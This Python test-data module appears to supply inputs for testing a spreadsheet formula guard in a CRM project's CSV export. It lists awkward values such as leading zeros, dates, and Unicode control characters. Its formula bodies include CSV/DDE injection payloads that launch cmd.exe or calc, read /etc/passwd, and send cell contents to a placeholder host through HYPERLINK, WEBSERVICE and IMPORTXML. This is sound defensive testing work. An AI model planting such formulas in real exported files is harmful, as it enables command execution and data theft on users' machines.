"""Texts that a spreadsheet might calculate, change or choke on."""

from __future__ import annotations

import random
from collections.abc import Sequence

from crmdesk.core.files.formula_guard import STARTS

#: What is calculated, fetched or started where a cell is taken for a formula.
BODIES = (
    "1+1",
    "A1",
    "SUM(A1:A9)",
    "cmd|' /C calc'!A0",
    "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    'DDE("soffice";"/etc/passwd";"Sheet1.A1")',
    'HYPERLINK("https://example.net/?x="&A1;"Invoice")',
    'HYPERLINK("https://example.net/?x="&A1,"Invoice")',
    'WEBSERVICE("https://example.net/"&A1)',
    'IMPORTXML(CONCAT("https://example.net/?v=",A1),"//a")',
    'INDIRECT("A1")',
    "2+3+cmd|' /C calc'!A0",
    "47 22 33 44 55+A1",
    '1)+1"',
    "1;2",
    "",
)
#: Beginnings that are no sign by themselves and may be skipped by a reader.
SKIPPED = (
    " ",
    "\u00a0",
    "\u200b",
    "\u2060",
    "\ufeff",
    "\u202e",
    "\u202d",
    "\x0b",
    "\x0c",
    "\x1b",
    "\x7f",
    "\x85",
    "\u2028",
    '"',
    "''",
    ",",
    ";",
    '",',
    '";',
    '"\r\n',
    "\r\n",
    "{",
    "(",
    "\\",
    "%0A",
    "\u2212",
    "\ufe62",
    "\ufe66",
    "\ufe63",
    "\ufe6b",
    "\u207a",
    "\u0085",
)
#: What a workbook keeps as it is and a reader of CSV may take for something else.
KEPT = (
    "007",
    "0049",
    "00",
    "000123456",
    "12345678901234567890",
    "99999999999999999999",
    "1234567890123456",
    "0.10",
    "1.0",
    "1E5",
    "3e10",
    "1/2",
    "3-4",
    "1-2-2026",
    "03/04/05",
    "2026-11-22",
    "12:30",
    "MAR1",
    "SEPT2",
    "TRUE",
    "FALSE",
    "50%",
    "$5",
    "€ 12",
    "(12)",
    "1,234",
    "1.234,50",
    "NaN",
    "INF",
    "0x1F",
    "1d2",
    "null",
    "#N/A",
    "#REF!",
    "#VALUE!",
    "'",
    "''",
    "'007",
    '"',
    '""',
    'say "hi", now',
    "Ærøskøbing 日本 🚢",
    "שלום",
    "مرحبا بالعالم",
    "e\u0301",
    "a\u202eb",
    "_x0041_",
    "<b>&amp;</b>",
    "]]>",
)
PHONES = (
    "+47 22 33 44 55",
    "+4722334455",
    "004722334455",
    "(030) 123-456",
    "030 123456",
    "+1 (555) 010-0199",
    "-12",
    "0",
    "112",
    "+49.30.1234",
)


def formulas() -> list[str]:
    """Every beginning before every body."""
    signs = [*STARTS, *SKIPPED, *(skipped + "=" for skipped in SKIPPED)]
    return [sign + body for sign in signs for body in BODIES if sign + body]


def generated(many: int, seed: int) -> list[str]:
    """Texts of a few signs, each of which means something to somebody."""
    chance = random.Random(seed)
    signs: Sequence[str] = [
        *STARTS,
        *SKIPPED,
        *"'\"=,;|!01A.(){}",
        "A1",
        "SUM(",
        "_x0041_",
        "Å",
        "日",
        "\U0001f6a2",
        "\x01",
        "\x1f",
        "\ud7ff",
        "\ue000",
        "\uffff",
    ]
    return ["".join(chance.choices(signs, k=chance.randint(1, 8))) for _ in range(many)]
